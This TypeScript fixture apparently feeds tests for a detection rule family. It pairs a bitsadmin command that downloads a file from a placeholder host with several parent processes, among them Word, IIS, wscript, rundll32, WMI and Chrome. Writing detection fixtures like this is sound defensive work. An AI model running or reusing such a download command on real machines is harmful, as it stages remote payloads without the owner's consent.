import type { Example } from '../signal.js';

const startedBy = (name: string): readonly Example[] => [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job https://files.example.net/a C:\\d\\a', parent_process_name: `${name}.exe`, parent_process_path: `C:\\d\\${name}.exe` }];

/** Rows that show each signal of the family; the tests run them. No bundle carries them. */
export const parentExamples: Readonly<Record<string, readonly Example[]>> = {
  'parent-office': startedBy('winword'),
  'parent-server': startedBy('w3wp'),
  'parent-script': startedBy('wscript'),
  'parent-proxy': startedBy('rundll32'),
  'parent-remote': startedBy('wmiprvse'),
  'parent-browser': startedBy('chrome'),
};
